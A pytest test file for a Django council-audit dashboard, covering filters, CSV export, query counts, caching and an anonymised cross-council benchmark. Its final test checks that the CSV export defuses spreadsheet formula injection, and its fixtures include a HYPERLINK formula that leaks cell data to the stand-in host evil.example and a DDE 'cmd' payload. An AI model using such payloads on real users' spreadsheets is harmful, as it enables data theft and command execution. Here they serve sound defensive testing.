import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from audits import services
from audits.models import Council, Membership, Role, Service

from ..conftest import _user, answer_all


def approved(council, service, period, officer, manager, rating):
    audit = services.audit_create(user=officer, council=council, service=service, period=period)
    answer_all(audit, officer, rating=rating, evidence_notes="Survey")
    services.audit_submit(audit=audit, user=officer)
    return services.audit_approve(audit=audit, user=manager)


@pytest.fixture
def history(council, planning, officer, manager):
    parks = Service.objects.create(council=council, name="Parks")
    Service.objects.create(council=council, name="Libraries")
    return {
        "planning-25": approved(council, planning, "2025/26", officer, manager, 1),
        "planning-26": approved(council, planning, "2026/27", officer, manager, 2),
        "parks-26": approved(council, parks, "2026/27", officer, manager, 4),
        "draft": services.audit_create(user=officer, council=council, service=None, period="2026/27"),
    }


def test_it_shows_the_profile_heatmap_trends_and_work_in_progress(client_for, history, councillor):
    page = client_for(councillor).get("/councils/ynys-mon/dashboard/").content.decode()
    assert "From the mean of the latest approved audits of 2 services, as of 2026/27." in page
    assert (
        f'href="/audits/{history["planning-26"].pk}/"' in page and f'href="/audits/{history["parks-26"].pk}/"' in page
    )
    assert "No approved audit yet" in page  # Libraries
    assert '<th scope="row">2025/26</th>' in page and '<th scope="row">2026/27</th>' in page
    assert "Capacity building" in page  # Planning is weak everywhere; the mean is 66.7 -> to consider
    assert '<th scope="row" class="fw-normal">Draft</th><td class="text-end">1</td>' in page


def test_a_council_wide_audit_is_the_profile_and_says_so(client_for, council, history, officer, manager, councillor):
    approved(council, None, "2025/26", officer, manager, 3)
    page = client_for(councillor).get("/councils/ynys-mon/dashboard/").content.decode()
    assert "From the council-wide audit of 2025/26" in page


def test_filters_by_period_and_service(client_for, history, planning, councillor):
    page = (
        client_for(councillor)
        .get(f"/councils/ynys-mon/dashboard/?period=2025/26&service={planning.pk}")
        .content.decode()
    )
    assert "From the approved audit of Planning for 2025/26" in page
    assert "Parks" not in page.split("Services and factors")[1].split("Trends")[0]


def test_bad_filters_are_explained_and_ignored(client_for, history, other_service, councillor):
    response = client_for(councillor).get(f"/councils/ynys-mon/dashboard/?period=2026/28&service={other_service.pk}")
    page = response.content.decode()
    assert response.status_code == 200
    assert "not a financial year" in page and "Select a valid choice" in page
    assert "From the mean of the latest approved audits of 2 services" in page


def test_the_data_downloads_as_csv(client_for, history, councillor):
    response = client_for(councillor).get("/councils/ynys-mon/dashboard.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["section", "scope", "period", "factor", "score", "detail"]
    assert ["services", "Planning", "2026/27", "Can do", "33.3", "Weakness"] in rows
    assert ["services", "Libraries", "", "", "", "no approved audit"] in rows
    assert any(r[0] == "trend" and r[2] == "2025/26" for r in rows)


def test_query_count_does_not_grow_with_services_audits_or_periods(
    client_for, council, history, officer, manager, councillor
):
    client = client_for(councillor)

    def count():
        with CaptureQueriesContext(connection) as ctx:
            assert client.get("/councils/ynys-mon/dashboard/").status_code == 200
        return len(ctx.captured_queries)

    before = count()
    for i in range(3):
        service = Service.objects.create(council=council, name=f"Service {i}")
        for period in ("2023/24", "2024/25"):
            approved(council, service, period, officer, manager, 3)
    # session, user, memberships, council, the audits' change stamp, services, periods, approved
    # audits, their scores, policy responses, interventions, the questions each addresses, work
    # in progress, the benchmark (one query); session expiry: savepoint, update, release
    # 17, one asking whether any audit counted has other perspectives, and two for the action plan
    # (its stamp, for the cached body, and its counts by factor and status)
    assert count() == before == 20
    # Unchanged since: the page's body comes from the cache (session, user, memberships,
    # council, stamp, the action plan's stamp; session expiry).
    assert count() == 9


def test_benchmark_needs_opt_in_and_five_councils_and_names_none(
    client_for, council, history, officer, manager, councillor
):
    client = client_for(councillor)
    assert (
        "does not take part in the anonymised benchmark" in client.get("/councils/ynys-mon/dashboard/").content.decode()
    )
    council.benchmark_opt_in = True
    council.save()
    others = []
    for i in range(3):
        other = Council.objects.create(name=f"Other Council {i}", slug=f"other-{i}", benchmark_opt_in=True)
        o = _user(f"o{i}", other, Role.OFFICER)
        m = _user(f"m{i}", other, Role.MANAGER)
        approved(other, None, "2026/27", o, m, 2 + i % 3)
        others.append(other)
    page = client.get("/councils/ynys-mon/dashboard/").content.decode()
    assert "Not enough councils take part yet (4 of the 5 needed)" in page
    fifth = Council.objects.create(name="Fifth Council", slug="fifth", benchmark_opt_in=True)
    approved(fifth, None, "2026/27", _user("o5", fifth, Role.OFFICER), _user("m5", fifth, Role.MANAGER), 4)
    page = client.get("/councils/ynys-mon/dashboard/").content.decode()
    assert "across the 5 councils that opted in" in page
    assert "Lower quartile" in page
    assert not any(c.name in page for c in [*others, fifth])


def test_a_manager_opts_in_and_out(client_for, council, manager):
    client = client_for(manager)
    assert "Share this council" in client.get("/councils/ynys-mon/settings/").content.decode()
    client.post("/councils/ynys-mon/settings/", {"benchmark_opt_in": "on"})
    council.refresh_from_db()
    assert council.benchmark_opt_in
    client.post("/councils/ynys-mon/settings/", {})
    council.refresh_from_db()
    assert not council.benchmark_opt_in


def test_the_picker_goes_straight_to_a_single_council(client_for, council, councillor):
    assert client_for(councillor).get("/dashboard/").url == "/councils/ynys-mon/dashboard/"


def test_the_picker_lists_several_councils(client_for, council, other_council, councillor):
    Membership.objects.create(user=councillor, council=other_council, role=Role.COUNCILLOR)
    page = client_for(councillor).get("/dashboard/").content.decode()
    assert "Ynys Môn" in page and "Rhondda Cynon Taf" in page


def test_the_cached_benchmark_follows_approvals_and_opt_outs(client_for, council, officer, manager, councillor):
    """The benchmark is cached (it reads every opted-in council); approving and opting out refresh it."""
    council.benchmark_opt_in = True
    council.save()
    councils = []
    for i in range(4):
        other = Council.objects.create(name=f"Other Council {i}", slug=f"other-{i}", benchmark_opt_in=True)
        approved(other, None, "2026/27", _user(f"o{i}", other, Role.OFFICER), _user(f"m{i}", other, Role.MANAGER), 2)
        councils.append(other)
    client = client_for(councillor)
    assert "(4 of the 5 needed)" in client.get("/councils/ynys-mon/dashboard/").content.decode()
    approved(council, None, "2026/27", officer, manager, 3)  # the fifth contributor
    assert "across the 5 councils that opted in" in client.get("/councils/ynys-mon/dashboard/").content.decode()
    services.council_set_benchmark(council=councils[0], user=manager, opt_in=False)
    assert "(4 of the 5 needed)" in client.get("/councils/ynys-mon/dashboard/").content.decode()


def test_the_csv_never_hands_a_spreadsheet_a_formula(client_for, council, officer, manager, councillor):
    """A service (or council) named like a formula is text in the download, whatever it starts with."""
    names = [
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tTabbed",
        "\rReturned",
    ]
    for name in names:
        approved(council, Service.objects.create(council=council, name=name), "2026/27", officer, manager, 2)
    Council.objects.filter(pk=council.pk).update(name="=1+1 Council")
    response = client_for(councillor).get("/councils/ynys-mon/dashboard.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    scopes = {r[1] for r in rows if r[0] == "services"}
    assert scopes == {"'" + name for name in names}
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [c for c in cells if c.startswith("-") and not c.replace("-", "", 1).replace(".", "", 1).isdigit()]
    assert ["services", "'-2+3", "2026/27", "Can do", "33.3", "Weakness"] in rows  # the score stays a number
